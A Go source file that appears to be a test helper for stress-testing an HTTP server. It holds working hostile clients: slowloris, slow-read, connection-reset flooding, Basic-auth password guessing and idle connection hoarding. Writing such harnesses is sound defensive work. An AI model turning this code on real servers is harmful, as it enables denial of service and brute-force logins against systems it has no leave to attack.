package main

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

const attackOn = "on\n"

// hostileClient is what a process of its own does: an attack of a kind, on an
// address and path, with so many connections, until its standard input ends.
// It then prints how often it did it, or 0 where connections just stay.
func hostileClient(args []string) error {
	if len(args) != 4 {
		return errors.New("client KIND ADDRESS PATH COUNT")
	}
	count, err := strconv.Atoi(args[3])
	if err != nil {
		return err
	}
	h := &hostile{address: args[1], path: args[2]}
	behave := map[string]func(first func()){
		"slowloris": h.slowloris, "slowread": h.slowRead, "flood": h.flood, "passwords": h.passwords, "idle": h.idle,
	}[args[0]]
	if behave == nil {
		return fmt.Errorf("no attack is called %q", args[0])
	}
	var ready sync.WaitGroup
	places := make(chan struct{}, 128) // dials at a time
	for range count {
		ready.Add(1)
		places <- struct{}{}
		go behave(sync.OnceFunc(func() { <-places; ready.Done() }))
	}
	ready.Wait()
	fmt.Print(attackOn)
	_, _ = io.Copy(io.Discard, os.Stdin)
	_, err = fmt.Println(h.done.Load())
	return err
}

// hostile has one method to a kind of attack. Each runs for as long as the
// process does, and calls first once its connection is there.
type hostile struct {
	address, path string
	done          atomic.Int64
}

// dial tries again for as long as it takes: servers may refuse for a while.
func (h *hostile) dial() *net.TCPConn {
	for {
		if c, err := net.Dial("tcp", h.address); err == nil {
			return c.(*net.TCPConn)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func (h *hostile) request(fields string) string {
	return "GET " + h.path + " HTTP/1.1\r\nHost: " + h.address + "\r\n" + fields + "\r\n"
}

// slowloris never comes to the end of a header, and opens another connection
// when the server has had enough.
func (h *hostile) slowloris(first func()) {
	for {
		c := h.dial()
		_, err := io.WriteString(c, "GET "+h.path+" HTTP/1.1\r\nHost: "+h.address+"\r\nX-Slow: ")
		first()
		for err == nil {
			time.Sleep(time.Second)
			_, err = io.WriteString(c, "a")
		}
		c.Close()
	}
}

// slowRead takes an answer in drops, through a small window.
func (h *hostile) slowRead(first func()) {
	drop := make([]byte, 1<<10)
	for {
		c := h.dial()
		_ = c.SetReadBuffer(4 << 10)
		_, err := io.WriteString(c, h.request(""))
		if err == nil {
			_, err = io.ReadFull(c, drop)
		}
		first()
		for err == nil {
			time.Sleep(time.Second)
			_, err = io.ReadFull(c, drop)
		}
		c.Close()
	}
}

// flood cuts connections off: empty ones, such with half of a request, and
// such whose answer is on its way.
func (h *hostile) flood(first func()) {
	whole := h.request("")
	for i := 0; ; i++ {
		c := h.dial()
		first()
		switch i % 3 {
		case 1:
			_, _ = io.WriteString(c, whole[:len(whole)/2])
		case 2:
			_, _ = io.WriteString(c, whole)
		}
		_ = c.SetLinger(0) // a reset: ports are free again at once
		c.Close()
		h.done.Add(1)
	}
}

// passwords tries one after the other.
func (h *hostile) passwords(first func()) {
	for {
		c := h.dial()
		first()
		r := bufio.NewReader(c)
		for {
			fields := "Authorization: Basic " + credentials(userName, "guess"+strconv.FormatInt(h.done.Add(1), 10)) + "\r\n"
			if _, err := io.WriteString(c, h.request(fields)); err != nil {
				break
			}
			res, err := http.ReadResponse(r, nil)
			if err != nil {
				break
			}
			if _, err := io.Copy(io.Discard, res.Body); err != nil || res.Close {
				break
			}
		}
		c.Close()
	}
}

// idle asks once, and then keeps the connection.
func (h *hostile) idle(first func()) {
	c := h.dial()
	_, err := io.WriteString(c, h.request(""))
	if err == nil {
		var res *http.Response
		if res, err = http.ReadResponse(bufio.NewReader(c), nil); err == nil {
			_, err = io.Copy(io.Discard, res.Body)
		}
	}
	if err == nil {
		first()
		// The end of the connection comes before its time only if the server
		// does not keep it, which would make its memory look small.
		_, err = c.Read(make([]byte, 1))
	}
	fmt.Fprintln(os.Stderr, "an idle connection ended:", err)
	os.Exit(1)
}
